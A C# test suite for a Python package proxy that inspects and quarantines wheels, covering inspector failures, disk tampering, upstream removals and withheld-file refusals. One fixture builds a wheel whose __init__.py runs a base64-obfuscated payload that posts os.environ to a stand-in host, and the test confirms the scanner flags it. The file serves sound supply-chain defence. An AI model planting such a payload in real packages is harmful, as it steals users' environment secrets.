using System.Net;
using Bonded.Data;
using Bonded.Gate.Inspections;
using Bonded.Inspection;
using Bonded.Testing;
using Bonded.Testing.Packages;
using Bonded.Testing.Upstream;

namespace Bonded.Server.Tests;

/// <summary>Inspectors, disks and servers that fail: nothing that fails lets a file in.</summary>
public sealed class FaultTests
{
    // The worker as it is deployed; its path follows from this test's own.
    static readonly string Bonded = Path.GetFullPath(Path.Combine(AppContext.BaseDirectory, "../../Bonded.Cli/debug/bonded"));

    [Fact]
    public async Task The_workers_inspect_as_this_process_does()
    {
        await using var server = await TestServer.Start(new ServerSetup { Worker = [Bonded, "inspect-worker"] });
        var good = server.Upstream.PutWheel("quillwharf", "1.0");
        var two = Goods.Wheel("quillwharf", "2.0").WithUnlisted("quillwharf/__init__.py", "import os\n");
        server.Upstream.Put(two, "quillwharf");
        var page = await server.Page("quillwharf");
        Assert.Equal(good, await server.Download(page[Goods.WheelName("quillwharf", "1.0")].Path));
        Assert.Contains("archive-ambiguous", (await server.Refused(TestServer.PathOf(two.FileName, two.Build()))).Rules);
        Assert.Equal(Goods.Wheel("quillwharf", "1.0").MetadataBytes(), await server.Download(page[Goods.WheelName("quillwharf", "1.0")].Path + ".metadata"));
    }

    [Fact]
    public async Task What_the_workers_say_of_code_arrives_whole()
    {
        await using var server = await TestServer.Start(new ServerSetup { Worker = [Bonded, "inspect-worker"], Adjust = options => options with { FileWait = TimeSpan.FromSeconds(60) } });
        var inner = Convert.ToBase64String("import os, urllib.request\nurllib.request.urlopen('https://x.example.invalid', data=str(os.environ).encode())\n"u8);
        var wheel = new WheelBuilder("quillwharf", "1.0").With("quillwharf/__init__.py", $"import base64\nexec(base64.b64decode('{inner}'))\n");
        var bytes = server.Upstream.Put(wheel, "quillwharf");
        await server.Page("quillwharf");
        await server.Refused(TestServer.PathOf(wheel.FileName, bytes));
        var digest = Packaging.Sha256Digest.Of(bytes);
        var stored = (await server.Database.Read(tx => Inspections.Newest(tx, digest, wheel.FileName)))!.FactsJson;
        Assert.True(Packaging.DistributionFilename.TryParse(wheel.FileName, out var filename, out _));
        var here = Inspector.Inspect(new MemoryStream(bytes), digest, filename, global::Bonded.Archives.ArchiveLimits.Default, CancellationToken.None);
        Assert.Equal(here.ToJson(), stored);
        Assert.Contains(here.Findings, finding => finding is { Strength: Strength.High, Trigger: Trigger.Import, Layers: ["base64"] });
        Assert.NotEmpty(here.Capabilities);
    }

    [Theory]
    [InlineData("crash", "read x; echo once >> LOG; exit 3", "stopped while it read the file")]
    [InlineData("killed", "read x; echo once >> LOG; kill -9 $$", "stopped while it read the file")]
    [InlineData("hang", "read x; echo once >> LOG; sleep 600", "took longer than")]
    [InlineData("garbage", "while read x; do echo once >> LOG; echo garbage; done", "gave no usable answer")]
    [InlineData("bad json", "while read x; do echo once >> LOG; printf '\\t{}\\n'; done", "gave no usable answer")]
    [InlineData("half an answer", "read x; echo once >> LOG; printf '\\t{'", "gave no usable answer")]
    public async Task I01_a_file_whose_inspection_fails_is_held(string how, string script, string says)
    {
        using var scratch = new TemporaryDirectory();
        await using var server = await TestServer.Start(new ServerSetup
        {
            Worker = ["/bin/sh", "-c", script.Replace("LOG", scratch["log"], StringComparison.Ordinal)],
            Adjust = options => options with { InspectionLimit = TimeSpan.FromSeconds(how == "hang" ? 0.5 : 30), FileWait = TimeSpan.FromSeconds(30), FirstPageWait = TimeSpan.Zero },
        });
        var wheel = server.Upstream.PutWheel("quillwharf", "1.0");
        var file = (await server.Page("quillwharf")).Files.Single();
        var refused = await server.Refused(file.Path);
        Assert.Equal(["inspector-failed"], refused.Rules);
        Assert.Equal("hold", refused.Json.GetProperty("decision").GetString());
        Assert.Contains(says, refused.Detail, StringComparison.Ordinal);
        Assert.Equal(2, (await File.ReadAllLinesAsync(scratch["log"])).Length);
        Assert.Empty((await server.Page("quillwharf")).Offered);
        Assert.Equal("inspector-failed", (await server.Quarantined("quillwharf", file.Name))!.Rules);
        Assert.Contains("decision", await server.Events("quillwharf"));
        Assert.Equal(wheel, await File.ReadAllBytesAsync(server.BlobOf(wheel)));
        Assert.Empty(await server.Downloads("quillwharf"));

        // Another start changes nothing by itself, and the inspector is not run against the file for ever.
        await server.Restart();
        Assert.Equal(["inspector-failed"], (await server.Refused(file.Path)).Rules);
        Assert.Empty(server.Inspector.Inspected);
    }

    [Fact]
    public async Task I01_a_worker_that_dies_once_is_asked_again()
    {
        using var scratch = new TemporaryDirectory();
        await using var server = await TestServer.Start(new ServerSetup
        {
            Worker = ["/bin/sh", "-c", $"if [ -e {scratch["flag"]} ]; then exec {Bonded} inspect-worker; fi; touch {scratch["flag"]}; read x; exit 1"],
            Adjust = options => options with { FileWait = TimeSpan.FromSeconds(30) },
        });
        var wheel = server.Upstream.PutWheel("quillwharf", "1.0");
        Assert.Equal(wheel, await server.Download((await server.Page("quillwharf")).Files.Single().Path));
        Assert.True(File.Exists(scratch["flag"]));
    }

    [Fact]
    public async Task I01_an_answer_about_another_file_is_no_answer()
    {
        await using var server = await TestServer.Start(new ServerSetup { Adjust = options => options with { FirstPageWait = TimeSpan.Zero } });
        server.Upstream.PutWheel("quillwharf", "1.0");
        server.Inspector.Before = (_, _) => throw new InvalidOperationException("password=hunter2");
        var answer = await server.Get((await server.Page("quillwharf")).Files.Single().Path);
        Assert.Equal(HttpStatusCode.BadGateway, answer.Status);
        Assert.DoesNotContain("hunter2", answer.Text + answer.Reason, StringComparison.Ordinal);
        Assert.Empty(await server.Downloads("quillwharf"));
    }

    [Fact]
    public async Task I04_the_engine_at_work_has_the_last_word()
    {
        await using var server = await TestServer.Start();
        server.Upstream.PutWheel("quillwharf", "1.0");
        var file = (await server.Page("quillwharf")).Files.Single();
        await server.Download(file.Path);
        var digest = Packaging.Sha256Digest.TryParse(file.Sha256, out var parsed) ? parsed : default;
        InspectionRow Row(string engine, params Finding[] findings) => new(digest, file.Name, engine, new InspectionFacts
        {
            Sha256 = digest,
            Filename = file.Name,
            Engine = engine,
            Size = 1_000_000,
            Findings = findings,
        }.ToJson(), TestServer.Now.AddDays(1));

        // An older engine's harsher word, though it came later, does not count against the one at work.
        await server.Database.Write(tx => Inspections.Save(tx, Row("an-older-engine", new Finding("archive-ambiguous", Strength.High, "two readers"))));
        await server.Restart();
        await server.Download(file.Path);
    }

    [Theory]
    [InlineData("altered", false)]
    [InlineData("altered", true)]
    [InlineData("replaced", false)]
    [InlineData("truncated", true)]
    [InlineData("deleted", false)]
    public async Task I02_bytes_that_change_on_the_disk_are_never_served(string how, bool restart)
    {
        await using var server = await TestServer.Start();
        var wheel = server.Upstream.PutWheel("quillwharf", "1.0");
        var file = (await server.Page("quillwharf")).Files.Single();
        await server.Download(file.Path);
        var blob = server.BlobOf(wheel);
        var evil = wheel.ToArray();
        evil[40] ^= 0xff;
        switch (how)
        {
            case "altered":
                await using (var stream = new FileStream(blob, FileMode.Open, FileAccess.Write, FileShare.ReadWrite))
                {
                    stream.Seek(40, SeekOrigin.Begin);
                    stream.WriteByte(evil[40]);
                }

                break;
            case "replaced":
                await File.WriteAllBytesAsync(blob + ".new", evil);
                File.Move(blob + ".new", blob, overwrite: true);
                break;
            case "truncated":
                await File.WriteAllBytesAsync(blob, wheel[..100]);
                break;
            case "deleted":
                File.Delete(blob);
                break;
        }

        if (restart)
            await server.Restart();

        // While the upstream cannot give the right ones again, nobody gets any.
        server.Upstream.Break(UpstreamReply.Code(404));
        var answer = await server.Get(file.Path);
        Assert.Equal(HttpStatusCode.BadGateway, answer.Status);
        Assert.Equal(HttpStatusCode.BadGateway, (await server.Get(file.Path, ("If-None-Match", $"\"{file.Sha256}\""))).Status);
        Assert.Equal(how == "deleted" ? 0 : 1, (await server.Events("quillwharf")).Count(kind => kind == "storage.damaged"));

        server.Upstream.Recover();
        await TestServer.Until(async () => (await server.Get(file.Path)).Status == HttpStatusCode.OK);
        Assert.Equal(wheel, await server.Download(file.Path));
        if (how != "deleted")
            Assert.NotEqual(wheel, await File.ReadAllBytesAsync(Path.Combine(server.BlobDirectory, "damaged", file.Sha256)));
    }

    [Fact]
    public async Task I02_metadata_that_changes_on_the_disk_is_read_from_the_wheel_again()
    {
        await using var server = await TestServer.Start();
        var wheel = Goods.Wheel("quillwharf", "1.0");
        server.Upstream.Put(wheel, "quillwharf");
        var file = (await server.Page("quillwharf")).Files.Single();
        await server.Download(file.Path + ".metadata");
        await File.WriteAllTextAsync(server.BlobOf(wheel.MetadataBytes()), "Metadata-Version: 2.1\nName: quillwharf\nVersion: 1.0\nRequires-Dist: worm\n");
        Assert.Equal(wheel.MetadataBytes(), await server.Download(file.Path + ".metadata"));
        Assert.Contains("storage.damaged", await server.Events("quillwharf"));
    }

    [Fact]
    public async Task I03_a_download_under_way_ends_and_the_next_is_refused()
    {
        await using var server = await TestServer.Start();
        var large = Goods.Wheel("quillwharf", "1.0").Stored();
        var noise = new byte[24 << 20];
        new Random(7).NextBytes(noise);
        large.With("quillwharf/noise.bin", noise);
        var bytes = large.Build();
        server.Upstream.Project("quillwharf").File(large.FileName, bytes, TestServer.Now.AddDays(-50));
        var file = (await server.Page("quillwharf")).Files.Single();
        await server.Download(file.Path);
        using var slow = new HttpClient();
        using var response = await slow.GetAsync($"http://127.0.0.1:{server.Port}{file.Path}", HttpCompletionOption.ResponseHeadersRead);
        await using var body = await response.Content.ReadAsStreamAsync();
        var got = new MemoryStream();
        var buffer = new byte[4_096];
        got.Write(buffer, 0, await body.ReadAsync(buffer));
        server.Upstream.Remove("quillwharf");
        await server.PagesGoStale();
        await server.Page("quillwharf");
        Assert.Equal(["removed-upstream"], (await server.Refused(file.Path)).Rules);
        await body.CopyToAsync(got);
        Assert.Equal(bytes, got.ToArray());
    }

    [Fact]
    public async Task I03_pages_asked_for_while_a_file_is_taken_away_are_from_before_or_after()
    {
        await using var server = await TestServer.Start();
        server.Upstream.PutWheel("quillwharf", "1.0");
        server.Upstream.PutWheel("quillwharf", "2.0");
        var before = (await server.Get("/simple/quillwharf/", ("Accept", TestServer.AcceptJson))).Text;
        var gone = Goods.WheelName("quillwharf", "2.0");
        using var stop = new CancellationTokenSource();
        var seen = Enumerable.Range(0, 4).Select(_ => Task.Run(async () =>
        {
            var texts = new List<string>();
            while (!stop.IsCancellationRequested)
                texts.Add((await server.Get("/simple/quillwharf/", ("Accept", TestServer.AcceptJson))).Text);
            return texts;
        })).ToArray();
        server.Upstream.Project("quillwharf").Remove(gone);
        await server.PagesGoStale();
        await TestServer.Until(async () => !(await server.Page("quillwharf")).Offered.Contains(gone));
        var after = (await server.Get("/simple/quillwharf/", ("Accept", TestServer.AcceptJson))).Text;
        await stop.CancelAsync();
        foreach (var texts in await Task.WhenAll(seen))
        {
            var turn = texts.FindIndex(text => !new PageView(System.Text.Json.JsonSerializer.Deserialize<System.Text.Json.JsonElement>(text)).Offered.Contains(gone));
            Assert.All(texts.Take(turn < 0 ? texts.Count : turn), text => Assert.Equal(before, text));

            // Once gone, gone.
            Assert.All(turn < 0 ? [] : texts.Skip(turn), text => Assert.DoesNotContain(gone, new PageView(System.Text.Json.JsonSerializer.Deserialize<System.Text.Json.JsonElement>(text)).Offered));
        }

        Assert.NotEqual(before, after);
    }

    [Fact]
    public async Task I03_a_removal_seen_by_one_node_reaches_the_other()
    {
        await using var one = await TestServer.Start(new ServerSetup { Kind = DatabaseKind.PostgreSql });
        await using var other = await one.AnotherNode(new ServerSetup { Kind = DatabaseKind.PostgreSql, Adjust = options => options with { PageFreshness = TimeSpan.FromDays(30) } });
        var wheel = one.Upstream.PutWheel("quillwharf", "1.0");
        var file = (await one.Page("quillwharf")).Files.Single();
        await one.Download(file.Path);

        // Each node has a disk of its own, so the other fetches the bytes for itself.
        Assert.Equal(wheel, await other.Download((await other.Page("quillwharf")).Files.Single().Path));
        one.Upstream.Project("quillwharf").Remove(file.Name);
        await one.PagesGoStale();
        await one.Page("quillwharf");
        var asked = one.Upstream.CountOf("/simple/quillwharf/");
        await TestServer.Until(async () => (await other.Get(file.Path)).Status == HttpStatusCode.Forbidden);
        await TestServer.Until(async () => !(await other.Page("quillwharf")).Offered.Any());
        Assert.Equal(asked, one.Upstream.CountOf("/simple/quillwharf/"));
    }

    [Theory]
    [InlineData("young")]
    [InlineData("blocked")]
    [InlineData("removed")]
    [InlineData("look-alike")]
    [InlineData("inspector")]
    [InlineData("owned")]
    public async Task I07_a_withheld_file_is_refused_on_every_way_to_read_it(string how)
    {
        await using var server = await TestServer.Start();
        var name = how == "look-alike" ? "requesst" : "quillwharf";
        if (how == "inspector")
            server.Inspector.Before = (_, _) => Task.FromResult<InspectionOutcome?>(new InspectionOutcome.Failed("the inspector stopped"));
        var bytes = server.Upstream.PutWheel(name, "1.0", daysOld: how == "young" ? 1 : 25);
        var filename = Goods.WheelName(name, "1.0");
        var path = TestServer.PathOf(filename, bytes);
        var pageTag = (await server.Get($"/simple/{name}/"))["ETag"]!;
        if (how is "blocked" or "removed" or "owned")
        {
            await server.Download(path);
            await server.Download(path + ".metadata");
            if (how == "removed")
                server.Upstream.Project(name).Remove(filename);
            else
                await server.Restart(how == "owned" ? new ServerSetup { Own = [name] } : new ServerSetup { Policy = $"block = [{{ name = \"{name}\" }}]" });
            await server.PagesGoStale();
        }

        // The first request of a file of unknown content has it inspected.
        await server.Get($"/simple/{name}/");
        await server.Get(path);
        var downloads = how is "blocked" or "removed" or "owned" ? 1 : 0;
        await TestServer.Until(async () => (await server.Downloads(name)).Count == downloads);
        var tag = $"\"{Packaging.Sha256Digest.Of(bytes)}\"";
        foreach (var target in (string[])[path, path + ".metadata"])
        {
            foreach (var method in (HttpMethod[])[HttpMethod.Get, HttpMethod.Head])
            {
                foreach (var header in ((string, string)[])[("X-Plain", "1"), ("Range", "bytes=0-9"), ("Range", "bytes=-1"), ("If-None-Match", tag), ("If-None-Match", "*"), ("If-Range", tag)])
                {
                    var answer = await server.Send(method, target, header);
                    Assert.True(answer.Status == HttpStatusCode.Forbidden, $"{method} {target} {header}: {answer.Status}");
                    Assert.Equal("application/problem+json", answer["Content-Type"]);
                    Assert.Null(answer["ETag"]);
                    Assert.Equal("no-store", answer["Cache-Control"]);
                }
            }
        }

        foreach (var accept in (string[])[TestServer.AcceptJson, "text/html"])
        {
            var answer = await server.Get($"/simple/{name}/", ("Accept", accept), ("If-None-Match", how is "young" or "look-alike" or "inspector" ? "\"old\"" : pageTag));
            Assert.Equal(HttpStatusCode.OK, answer.Status);
            if (accept == TestServer.AcceptJson)
                Assert.Empty(new PageView(answer.Json).Offered);
            else if (answer.Text.Contains(filename, StringComparison.Ordinal))
                Assert.Contains("data-yanked=\"Held by", answer.Text, StringComparison.Ordinal);
        }

        foreach (var document in (string[])[$"/pypi/{name}/json", $"/pypi/{name}/1.0/json"])
        {
            var answer = await server.Get(document);
            if (answer.Status == HttpStatusCode.NotFound)
                continue;
            Assert.All(answer.Json.GetProperty("urls").EnumerateArray(), url => Assert.True(url.GetProperty("yanked").GetBoolean()));
            Assert.All(answer.Json.GetProperty("urls").EnumerateArray(), url => Assert.StartsWith("Held by", url.GetProperty("yanked_reason").GetString(), StringComparison.Ordinal));
        }

        await Task.Delay(300);
        Assert.Equal(downloads, (await server.Downloads(name)).Count);
    }

    [Fact]
    public async Task E12_a_failure_inside_says_nothing_but_a_number()
    {
        await using var server = await TestServer.Start();
        await server.Database.DisposeAsync();
        var answer = await server.Get("/simple/quillwharf/");
        Assert.Equal(HttpStatusCode.InternalServerError, answer.Status);
        Assert.Equal("application/problem+json", answer["Content-Type"]);
        Assert.Matches("^[0-9a-f]{16}$", answer.Json.GetProperty("correlation").GetString()!);
        foreach (var word in (string[])["Database", "Exception", "Bonded.", " at ", "/tmp"])
            Assert.DoesNotContain(word, answer.Text.Replace("inside Bonded.", "", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.NotEqual(HttpStatusCode.OK, (await server.Get("/readyz")).Status);
        Assert.Equal(HttpStatusCode.OK, (await server.Get("/healthz")).Status);
    }

    [Theory, DatabaseData]
    public async Task J01_a_start_sweeps_what_nobody_writes_any_more(DatabaseKind kind)
    {
        await using var server = await TestServer.Start(kind);
        var place = Path.Combine(server.BlobDirectory, "tmp");
        await File.WriteAllTextAsync(Path.Combine(place, "left"), "half");
        await using (var written = new FileStream(Path.Combine(place, "written"), FileMode.CreateNew, FileAccess.Write, FileShare.Read | FileShare.Delete))
            await server.Restart();

        // One directory of SQLite has one process; nodes on one PostgreSQL may share the files.
        Assert.Equal(kind == DatabaseKind.Sqlite ? [] : [Path.Combine(place, "written")], Directory.GetFiles(place));
    }

    [Fact]
    public async Task Disk_full_is_507_and_leaves_nothing()
    {
        await using var server = await TestServer.Start(new ServerSetup { Adjust = options => options with { SpareDisk = long.MaxValue / 2, FirstPageWait = TimeSpan.Zero } });
        var wheel = server.Upstream.PutWheel("quillwharf", "1.0");
        var file = (await server.Page("quillwharf")).Files.Single();
        var answer = await server.Get(file.Path);
        Assert.Equal(507, (int)answer.Status);
        Assert.Equal("no-room", answer.Json.GetProperty("code").GetString());
        Assert.Equal(0, server.Upstream.CountOf($"/files/quillwharf/{file.Name}"));
        await server.Restart(new ServerSetup());
        Assert.Equal(wheel, await server.Download(file.Path));
    }
}
